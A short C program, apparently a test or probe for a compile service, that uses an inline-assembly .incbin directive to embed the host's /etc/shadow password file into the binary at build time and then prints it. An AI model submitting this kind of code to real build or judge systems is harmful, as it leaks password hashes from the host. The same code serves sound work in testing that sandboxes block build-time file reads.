// Has the assembler put a secret of the host into the program.
__asm__(".section .rodata\n.global secret\nsecret: .incbin \"/etc/shadow\"\n.byte 0\n.text");
extern const char secret[];
int puts(const char *);
int main(void) {
    return puts(secret);
}
